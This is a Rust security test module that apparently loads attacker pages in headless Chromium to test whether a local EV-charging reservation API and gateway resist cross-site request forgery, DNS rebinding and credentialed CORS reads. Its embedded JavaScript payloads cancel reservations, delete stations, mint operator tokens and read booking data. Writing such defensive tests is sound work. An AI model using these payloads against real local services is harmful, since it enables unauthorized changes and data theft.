//! What pages of an attacker make the browser of somebody do who can reach a program.

use serde_json::{Value, json};

use super::chromium::{visit, visit_rebound};
use super::{gateway, servidor};
use crate::attack::{Guard, Tries};
use crate::harness::{Program, World, payload};

const OPEN: &[(&str, &str)] = &[("ADMIN_ABERTO", "sim")];
/// The carro that the pages look for.
const PLACA: &str = "ABC1234";

/// A page whose script runs `attempts`, an expression with an object of functions, and reports what
/// each returned or why it failed.
fn page(targets: &[&Program], attempts: &str) -> String {
    let targets: Vec<String> = targets.iter().map(|program| program.url("")).collect();
    let targets = json!(targets);
    format!(
        "<!doctype html><title>an app</title><body><script type=module>
        const [target, other] = {targets};
        const pause = (ms) => new Promise((done) => setTimeout(done, ms));
        const send = (method, path, value, more) => fetch(target + path, {{
            method, body: value === undefined ? undefined : JSON.stringify(value),
            headers: value === undefined ? {{}} : {{'content-type': 'application/json'}}, ...more,
        }});
        const form = (path, kind, fields) => {{
            const frame = document.createElement('iframe');
            frame.name = 'f' + Math.random();
            const form = document.createElement('form');
            Object.assign(form, {{method: 'post', action: target + path, target: frame.name, enctype: kind}});
            for (const [name, value] of Object.entries(fields))
                form.append(Object.assign(document.createElement('input'), {{name, value}}));
            document.body.append(frame, form);
            form.submit();
            return pause(1500);
        }};
        const load = (kind, path) => new Promise((done) => {{
            const element = document.createElement(kind);
            element.onload = () => done('loaded');
            element.onerror = () => done('failed');
            element.src = target + path;
            document.body.append(element);
        }});
        const attempts = {attempts};
        const report = {{}};
        for (const [name, attempt] of Object.entries(attempts)) {{
            try {{ report[name] = String(await attempt()); }} catch (error) {{ report[name] = 'error: ' + error; }}
        }}
        await fetch('/report', {{method: 'POST', body: JSON.stringify(report)}});
        </script>"
    )
}

/// A servidor that is open, with a gateway and four reservas, of postos 1 to 4.
async fn open_system(world: &World, guard: Guard, bug: &str) -> (Program, Program) {
    let servidor = servidor(world, guard, bug, OPEN).await;
    let gateway = world.client("cliente1").await;
    gateway.sees("server1", "online").await;
    for (placa, posto_id) in [(PLACA, 1), ("AAA0002", 2), ("AAA0003", 3), ("AAA0004", 4)] {
        let made = gateway.reservar(&payload(placa, posto_id)).await;
        assert_eq!(made.status, 200, "{made:?}");
    }
    (servidor, gateway)
}

async fn is_cancelled(servidor: &Program, id: u32) -> bool {
    servidor.get(&format!("/reservas/{id}")).await.json["status"] == "cancelada"
}

async fn has_posto(servidor: &Program, nome: &str) -> bool {
    servidor.get("/postos").await.json.to_string().contains(&format!("\"{nome}\""))
}

fn saw_placa(report: &Value, attempt: &str) -> bool {
    report[attempt].as_str().is_some_and(|seen| seen.contains(PLACA))
}

const FOREIGN: &str = "{
    form: () => form('/reservas/1/cancelar', 'application/x-www-form-urlencoded', {}),
    simple: () => send('POST', '/reservas/2/cancelar', undefined, {mode: 'no-cors'}),
    beacon: () => { navigator.sendBeacon(target + '/reservas/3/cancelar'); return pause(1000); },
    post: async () => (await send('POST', '/postos', {nome: 'da pagina', localizacao: '-23.5,-46.6',
        potencia_maxima: 22, tipo_conector: 'CCS', preco_kwh: 2.5})).status,
    put: async () => (await send('PUT', '/postos/11/disponibilidade', {disponivel: false})).status,
    patch: async () => (await send('PATCH', '/postos/12', {nome: 'mudado'})).status,
    remove: async () => (await send('DELETE', '/postos/13')).status,
    token: async () => (await send('POST', '/tokens', {nome: 'meu', papel: 'operador'})).text(),
    read: async () => (await send('GET', '/reservas')).text(),
    typed: () => send('POST', '/postos', undefined, {mode: 'no-cors', body: JSON.stringify({nome: 'do texto',
        localizacao: '-23.5,-46.6'}), headers: {'content-type': 'text/plain'}}),
    typed_form: () => form('/postos', 'text/plain', {'{\"localizacao\":\"-23.5,-46.6\",\"nome\":\"da forma': '\"}'}),
    upload: () => form('/postos/importar', 'multipart/form-data', {file: 'id,nome,latitude,longitude,status\\n99,x,-23,-46,disponivel'}),
    image: () => load('img', '/reservas'),
    script: () => load('script', '/reservas'),
    frame: async () => { await load('iframe', '/docs/'); try { return frames[frames.length - 1].document.body.innerHTML; }
        catch (error) { return 'error'; } },
    socket: () => new Promise((done) => { const socket = new WebSocket(target.replace('http', 'ws') + '/reservas');
        socket.onopen = () => done('open'); socket.onerror = () => done('error'); }),
}";

/// Somebody with an open servidor on the same machine opens a page of the attacker's.
pub(crate) async fn web_page_drives_an_open_admin_api(guard: Guard) -> Tries {
    let (world, mut tries) = (World::new().await, Tries::default());
    let (servidor, _gateway) = open_system(&world, guard, "ForeignPages").await;
    let report = visit(page(&[&servidor], FOREIGN)).await;
    tries.record("a form cancels a reserva", is_cancelled(&servidor, 1).await);
    tries.record("a POST without preflight cancels one", is_cancelled(&servidor, 2).await);
    tries.record("a beacon cancels one", is_cancelled(&servidor, 3).await);
    tries.record("a POST of JSON makes a posto", has_posto(&servidor, "da pagina").await);
    let held = servidor.get("/postos/11").await.json;
    tries.record("a PUT takes a posto out of service", held["disponivel"] == false);
    tries.record("a PATCH renames a posto", has_posto(&servidor, "mudado").await);
    tries.record("a DELETE removes a posto", servidor.get("/postos/13").await.status == 404);
    let token = report["token"].as_str().unwrap_or_default().contains("posto_");
    tries.record("it makes itself a token", token);
    tries.record("it reads who has reserved", saw_placa(&report, "read"));
    // These are stopped by more than one guard: no removal lets them through.
    for nome in ["do texto", "da forma", "x"] {
        assert!(!has_posto(&servidor, nome).await, "{nome}: {report}");
    }
    for (attempt, seen) in [("script", "failed"), ("image", "failed"), ("socket", "error")] {
        assert_eq!(report[attempt], seen, "{report}");
    }
    assert!(!report["frame"].as_str().unwrap_or_default().contains("swagger"), "{report}");
    tries
}

const SAME_ORIGIN: &str = "{
    read: async () => (await fetch('/reservas')).text(),
    post: async () => (await fetch('/reservas/1/cancelar', {method: 'POST'})).status,
    token: async () => (await fetch('/tokens', {method: 'POST', headers: {'content-type': 'application/json'},
        body: JSON.stringify({nome: 'meu', papel: 'operador'})})).text(),
    remove: async () => (await fetch('/postos/13', {method: 'DELETE'})).status,
}";

/// The name of the attacker's page leads to the servidor once the page is loaded, so that to the
/// browser both are of one origin.
pub(crate) async fn rebound_dns_name(guard: Guard) -> Tries {
    let (world, mut tries) = (World::new().await, Tries::default());
    let (servidor, _gateway) = open_system(&world, guard, "ForeignPages").await;
    let report = visit_rebound(&servidor, page(&[&servidor], SAME_ORIGIN)).await;
    tries.record("it reads who has reserved", saw_placa(&report, "read"));
    tries.record("it cancels a reserva", is_cancelled(&servidor, 1).await);
    let token = report["token"].as_str().unwrap_or_default().contains("posto_");
    tries.record("it makes itself a token", token);
    tries.record("it removes a posto", servidor.get("/postos/13").await.status == 404);
    tries
}

const WITH_CREDENTIALS: &str = "{
    read: async () => (await fetch(target + '/postos', {credentials: 'include'})).text(),
    refused: async () => (await fetch(target + '/reservas', {credentials: 'include'})).text(),
    preflight: async () => (await send('POST', '/tokens', {}, {credentials: 'include'})).text(),
    gateway: async () => (await fetch(other + '/servidores', {credentials: 'include'})).text(),
    reservar: async () => (await fetch(other + '/reservar', {method: 'POST', credentials: 'include',
        headers: {'content-type': 'application/json'}, body: '{}'})).text(),
}";

/// A page reads what the browser gets by the credentials that it keeps for the programs: a cookie
/// or a password that a proxy in front of them asks for, or a client certificate.
pub(crate) async fn cors_with_credentials(guard: Guard) -> Tries {
    const BUG: &str = "SharedCredentials";
    let (world, mut tries) = (World::new().await, Tries::default());
    let servidor = servidor(&world, guard, BUG, &[]).await;
    let gateway = gateway(&world, guard, BUG, &[]).await;
    let report = visit(page(&[&servidor, &gateway], WITH_CREDENTIALS)).await;
    for attempt in ["read", "refused", "preflight", "gateway", "reservar"] {
        let seen = report[attempt].as_str().expect("a report");
        tries.record(format!("{attempt}: {seen}"), !seen.starts_with("error: "));
    }
    tries
}
